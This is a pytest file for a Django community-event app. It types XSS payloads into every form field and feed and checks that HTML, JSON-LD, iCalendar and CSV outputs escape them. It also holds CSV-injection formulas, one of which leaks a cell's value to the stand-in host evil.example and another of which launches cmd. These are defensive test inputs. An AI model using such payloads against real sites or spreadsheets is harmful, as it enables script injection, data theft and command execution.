"""Text anyone writes is escaped wherever it is shown.

Script tags and attribute break-outs are typed into every free-text field a host, a resident,
a coordinator or a spreadsheet can fill, through the real forms; then every page, feed and
file that shows the text is fetched. In HTML the markup must arrive as text (`&lt;script&gt;`),
never as markup; inside the event page's JSON-LD `<script>` block nothing may close the block;
JSON, iCalendar and CSV carry the text as data, under their own content types; CSV cells that
a spreadsheet would run as a formula are kept as text.
"""

import csv
import datetime as dt
import io
import json
import re
import xml.etree.ElementTree as ET

import pytest
from django.urls import reverse

from nightout.finder.places import public_point_refresh
from nightout.registry.links import manage_url
from nightout.registry.models import Event, EventStatus, HostReport
from nightout.surveys.models import SurveyResponse
from nightout.surveys.tokens import survey_url
from nightout.visits.models import Stop, Unit
from tests.web_import import web_apply, web_import

pytestmark = pytest.mark.django_db

ATTACK = "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>"
RAW = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>")


def attack(field: str) -> str:
    """The attack, labelled with the field it was typed into."""
    return f"{field.upper()}{ATTACK}"


def assert_html_escapes(response, *fields: str):
    """No field's markup arrives as markup, and each field is shown, escaped."""
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("text/html")
    page = response.content.decode()
    for raw in RAW:
        assert raw not in page, f"unescaped {raw!r} in {response.wsgi_request.path}: " + ", ".join(
            f for f in re.findall(r"([A-Z_]+)" + re.escape(raw[:8]), page))
    for field in fields:
        assert f"{field.upper()}&lt;script&gt;" in page, (
            f"{field} is not shown (escaped) on {response.wsgi_request.path}")


def pending_comments(season):
    return SurveyResponse.objects.filter(season=season, comment_status="pending")


@pytest.fixture
def written(client, world, monkeypatch, django_capture_on_commit_callbacks):
    """Every free-text field, filled with the attack through the real forms."""
    season, coordinator = world.season, world.users["coordinator"]
    register = reverse("registry:register", args=[season.slug])
    response = client.post(register, {
        "title": attack("title"), "kind": "community_event",
        "description": attack("description"), "venue": attack("venue"),
        "address": "1300 Elm St " + attack("address"), "postal_code": "55401",
        "latitude": "44.975", "longitude": "-93.265", "show_exact_location": "on",
        "starts": "17:00", "ends": "20:30", "visits": ["police"],
        "accessibility_notes": attack("accessibility"),
        "closure": "on", "closure_street": attack("street"),
        "closure_from_street": attack("from_street"), "closure_to_street": attack("to_street"),
        "closure_blocks": "1", "closure_residential": "on", "closure_consent": "on",
        "host_name": attack("host_name"), "host_email": "pat@example.org",
        "host_phone": "612-555-0123", "host_organization": attack("organization"),
    })
    assert response.status_code == 302, response.content.decode()[:3000]
    event = Event.objects.get(description__startswith="DESCRIPTION")
    client.force_login(coordinator)
    review = reverse("registry:review_event", args=[season.slug, event.pk])
    assert client.post(review, {"decision": "approve"}).status_code == 302

    rejected = Event(
        season=season, title="Birch Street Party", address="50 Birch St", latitude=44.98,
        longitude=-93.27, starts_at=event.starts_at, ends_at=event.ends_at,
        submitted_at=event.submitted_at, manage_secret="birch-secret",
        # a district as a town's spreadsheet names it: one a unit may then be kept to
        district=attack("district"))
    public_point_refresh(rejected)
    rejected.save()
    client.post(reverse("registry:review_event", args=[season.slug, rejected.pk]),
                {"decision": "reject", "reason": attack("reason")})
    assert Event.objects.get(pk=rejected.pk).status == EventStatus.REJECTED

    response = client.post(reverse("visits:units", args=[season.slug]), {
        "agency": world.police.pk, "kind": "police", "name": attack("unit"),
        "shift_start": "16:30", "shift_end": "21:30",
        "start_station": world.police.stations.get().pk, "district": attack("district"),
    })
    assert response.status_code == 302, response.content.decode()[:3000]
    unit = Unit.objects.get(name__startswith="UNIT")
    at = season.at(season.nno_date, dt.time(18, 30))
    Stop.objects.create(version=world.version, unit=unit, event=event, kind="police", order=1,
                        arrival=at, start=at, departure=at + dt.timedelta(minutes=15))

    response = web_import(client, season, attack("file") + ".csv", _spreadsheet(IMPORT_ROWS),
                          capture=django_capture_on_commit_callbacks)
    assert response.status_code == 302, response.content.decode()[:3000]
    # The upload's name keeps what follows its last "/": `script>"'><img src=x ...>.csv`.
    batch = season.imports.exclude(pk=world.batch.pk).get()
    assert "<img src=x onerror=alert(1)>" in batch.filename

    client.logout()
    response = client.post(manage_url(world.other_event),
                           {"action": "cancel", "reason": attack("cancel")})
    assert response.status_code == 302
    client.force_login(coordinator)

    # After the night: the host reports, a resident answers the survey with a comment, and
    # the coordinator publishes the comment.
    client.logout()
    after = event.ends_at + dt.timedelta(minutes=30)
    monkeypatch.setattr("django.utils.timezone.now", lambda: after)
    response = client.post(reverse("registry:manage_report", args=[_token(event)]),
                           {"attendance": "40", "notes": attack("notes")})
    assert response.status_code == 302, response.content.decode()[:3000]
    response = client.post(survey_url(event), {"respect": "4", "comment": attack("comment")})
    assert response.status_code == 200 and pending_comments(season).exists()
    client.force_login(coordinator)
    moderate = reverse("surveys:moderate", args=[season.slug])
    assert_html_escapes(client.get(moderate), "comment")
    client.post(moderate, {"pk": pending_comments(season).get().pk, "decision": "publish"})
    monkeypatch.undo()
    client.logout()
    return {"event": Event.objects.get(pk=event.pk), "rejected": rejected, "unit": unit,
            "batch": batch}


def _strings(data) -> set[str]:
    """Every string in a parsed JSON document."""
    if isinstance(data, str):
        return {data}
    values = data.values() if isinstance(data, dict) else data if isinstance(data, list) else []
    return set().union(*(_strings(v) for v in values)) if values else set()


def _token(event):
    return manage_url(event).strip("/").split("/")[-1]


def test_what_a_host_writes_is_text_on_the_public_pages(client, world, written):
    event = written["event"]
    public = ("title", "description", "venue", "address", "accessibility")
    assert_html_escapes(client.get(reverse("finder:event", args=[event.pk])), *public)
    assert_html_escapes(client.get(reverse("finder:search"), {"town": "lakeport", "when": "all"}),
                        "title")
    assert_html_escapes(client.get(reverse("finder:widget", args=["lakeport"])), "title")
    assert_html_escapes(client.get(reverse("surveys:poster", args=[event.pk])), "title")
    for page in (reverse("finder:event", args=[event.pk]), reverse("finder:search")):
        html = client.get(page).content.decode()
        assert "host_name".upper() not in html and "ORGANIZATION" not in html


def test_the_json_ld_block_cannot_be_closed_from_inside(client, written):
    event = written["event"]
    html = client.get(reverse("finder:event", args=[event.pk])).content.decode()
    blocks = re.findall(r'<script type="application/ld\+json"[^>]*>(.*?)</script>', html, re.S)
    assert len(blocks) == 1
    block = blocks[0]
    assert "<" not in block and ">" not in block
    assert "\\u003c/script\\u003e" in block
    data = json.loads(block)
    assert data["name"] == attack("title")
    assert data["description"] == attack("description")
    for script in re.findall(r"<script\b[^>]*>(.*?)</script>", html, re.S):
        assert "alert(1)" not in script or script.strip().startswith("{")


def test_the_feeds_carry_the_text_as_data(client, world, written):
    event = written["event"]
    title = attack("title")
    for url in (reverse("finder:events_atom"),
                reverse("finder:season_atom", args=[world.season.slug])):
        response = client.get(url)
        body = response.content.decode()
        assert "<script>" not in body
        titles = [e.text for e in ET.fromstring(response.content).iter(
            "{http://www.w3.org/2005/Atom}title")]
        assert title in titles
    for url in (reverse("finder:events_geojson"), reverse("finder:map_points") + "?zoom=18",
                reverse("api:event_detail", args=[event.pk])):
        response = client.get(url)
        assert response["Content-Type"].startswith(("application/json", "application/geo+json"))
        assert title in _strings(response.json())
    for url in (reverse("finder:event_ics", args=[event.pk]),
                reverse("finder:season_ics", args=[world.season.slug]),
                reverse("finder:town_ics", args=["lakeport"])):
        response = client.get(url)
        assert response["Content-Type"].startswith("text/calendar")
        assert "alert(1)" in response.content.decode().replace("\r\n ", "")


def test_the_host_sees_their_own_words_as_text(client, world, written):
    event, rejected = written["event"], written["rejected"]
    assert_html_escapes(client.get(manage_url(event)),
                        "title", "street", "from_street", "to_street")
    assert_html_escapes(client.get(manage_url(rejected)), "reason")
    assert_html_escapes(client.get(manage_url(world.other_event)), "cancel")
    assert_html_escapes(client.get(reverse("registry:manage_edit", args=[_token(event)])),
                        "title", "description", "venue", "accessibility", "host_name",
                        "organization", "street")
    assert HostReport.objects.get(event=event).notes == attack("notes")
    later = event.ends_at + dt.timedelta(hours=1)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("django.utils.timezone.now", lambda: later)
        assert_html_escapes(client.get(reverse("registry:manage_report", args=[_token(event)])),
                            "notes")


def test_the_coordinators_screens_show_everything_as_text(client, world, written):
    season, event = world.season, written["event"]
    client.force_login(world.users["coordinator"])
    slug = season.slug
    assert_html_escapes(client.get(reverse("registry:queue", args=[slug]), {"status": ""}),
                        "title")
    assert_html_escapes(client.get(reverse("registry:review_event", args=[slug, event.pk])),
                        "title", "description", "venue", "host_name", "organization", "street",
                        "from_street", "to_street")
    assert_html_escapes(client.get(reverse("registry:review_event",
                                           args=[slug, written["rejected"].pk])), "reason")
    assert_html_escapes(client.get(reverse("registry:review_event",
                                           args=[slug, world.other_event.pk])), "cancel")
    assert_html_escapes(client.get(reverse("registry:official_list", args=[slug, "police"])),
                        "title", "host_name")
    assert_html_escapes(client.get(reverse("registry:official_list",
                                           args=[slug, "public-works"])),
                        "street", "from_street", "to_street", "title")
    assert_html_escapes(client.get(reverse("registry:import_batch",
                                           args=[slug, written["batch"].pk])),
                        "import_activity")
    assert_html_escapes(client.get(reverse("registry:import", args=[slug])))
    assert_html_escapes(client.get(reverse("reports:season", args=[slug])))


def _spreadsheet(rows) -> bytes:
    text = io.StringIO()
    csv.writer(text).writerows(row() if callable(row) else row for row in rows)
    return text.getvalue().encode()


# A spreadsheet's header, a good row of attacks, and a bad row (rows made when used, as
# `attack` is).
IMPORT_ROWS = [
    ["title", "description", "venue", "address", "zip", "host name", "organization",
     "activities"],
    lambda: [attack("import_title"), attack("import_description"), attack("import_venue"),
             "700 Pine St", "55401", attack("import_host"), attack("import_org"), ""],
    lambda: ["Bad row", "", "", "710 Pine St", "55401", "", "", attack("import_activity")],
]


def test_imported_rows_are_text_once_applied(client, world, written,
                                             django_capture_on_commit_callbacks):
    client.force_login(world.users["coordinator"])
    slug = world.season.slug
    # The first upload is not kept: its header and good row, uploaded again.
    response = web_import(client, world.season, "good.csv", _spreadsheet(IMPORT_ROWS[:2]),
                          capture=django_capture_on_commit_callbacks)
    assert web_apply(client, response, django_capture_on_commit_callbacks).status_code == 302
    imported = Event.objects.get(title=attack("import_title"))
    assert_html_escapes(client.get(reverse("registry:review_event", args=[slug, imported.pk])),
                        "import_title", "import_description", "import_venue", "import_host",
                        "import_org")


def test_the_visit_pages_show_unit_and_party_names_as_text(client, world, written):
    season, unit = world.season, written["unit"]
    client.force_login(world.users["coordinator"])
    args = [season.slug, unit.pk]
    assert_html_escapes(client.get(reverse("visits:units", args=[season.slug])), "unit")
    for page in ("itinerary", "run_sheet", "phone"):
        assert_html_escapes(client.get(reverse(f"visits:{page}", args=args)), "unit", "title")
    assert_html_escapes(client.get(reverse("visits:version", args=[season.slug, 1])),
                        "unit", "title")
    assert_html_escapes(client.get(reverse("visits:board", args=[season.slug]) + "?at=18:00"),
                        "unit")
    calendar = client.get(reverse("visits:calendar", args=args))
    assert calendar["Content-Type"].startswith("text/calendar")


def test_published_survey_comments_are_text(client, world, written, monkeypatch):
    from nightout.surveys.selectors import survey_closes_at

    # Comments are shown with the results, once the survey has closed.
    after = survey_closes_at(season=world.season) + dt.timedelta(minutes=1)
    monkeypatch.setattr("django.utils.timezone.now", lambda: after)
    assert_html_escapes(client.get(reverse("surveys:results", args=[world.season.slug])),
                        "comment")


@pytest.mark.parametrize("formula", [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+1", "-2+3", "@SUM(1,2)",
    "\t=1+1",
])
def test_csv_exports_keep_formulas_as_text(client, world, formula):
    """OWASP CSV injection: a cell starting with = + - @ (or a tab) gets a leading '."""
    season = world.season
    Event.objects.filter(pk=world.event.pk).update(title=formula)
    world.event.host_contact.__class__.objects.filter(event=world.event).update(name=formula)
    client.force_login(world.users["coordinator"])
    response = client.get(reverse("registry:official_list", args=[season.slug, "police"]),
                          {"format": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + formula in cells
    assert formula not in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for cell in cells)


def test_report_csv_keeps_formulas_as_text(client, world):
    from nightout.accounts.models import Membership, Role

    region = world.region
    world.town.name = "=cmd|' /C calc'!A0"
    world.town.save()
    client.force_login(world.users["organizer"])
    assert Membership.objects.filter(role=Role.REGIONAL_ORGANIZER).exists()
    response = client.get(reverse("reports:region", args=[region.slug]),
                          {"format": "csv", "year": world.season.year})
    cells = [c for row in csv.reader(io.StringIO(response.content.decode())) for c in row]
    assert "'=cmd|' /C calc'!A0" in cells and "=cmd|' /C calc'!A0" not in cells


def test_numbers_in_csv_exports_stay_numbers():
    from nightout.registry.exports import spreadsheet_cell

    assert spreadsheet_cell(-72.61) == -72.61
    assert spreadsheet_cell(3) == 3
    assert spreadsheet_cell("17:00") == "17:00"
    assert spreadsheet_cell("-5") == "'-5"


def test_what_a_visitor_puts_in_an_address_comes_back_as_text(client, world):
    """Search words, filters and the next page after sign-in are shown back escaped."""
    pages = [
        (reverse("finder:search"), {"q": attack("q")}),
        (reverse("finder:widget_snippets"), {"q": attack("q")}),
        (reverse("accounts:login"), {"next": "/" + attack("next")}),
    ]
    for url, query in pages:
        response = client.get(url, query)
        assert response.status_code == 200
        page = response.content.decode()
        assert not any(raw in page for raw in RAW), url
    slug = world.season.slug
    for role, url, query in [
        ("coordinator", reverse("registry:queue", args=[slug]), {"q": attack("q")}),
        ("coordinator", reverse("visits:board", args=[slug]), {"at": attack("at")}),
        ("organizer", reverse("reports:region", args=[world.region.slug]),
         {"year": attack("year")}),
    ]:
        client.force_login(world.users[role])
        response = client.get(url, query)
        assert response.status_code == 200, url
        page = response.content.decode()
        assert not any(raw in page for raw in RAW), url
